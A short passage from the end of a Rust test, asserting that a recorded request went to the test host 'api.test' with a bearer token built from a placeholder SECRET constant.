            assert_eq!(
                *seen.lock().unwrap(),
                vec![("api.test".to_string(), format!("Bearer {SECRET}"))]
            );
        },
    );
}
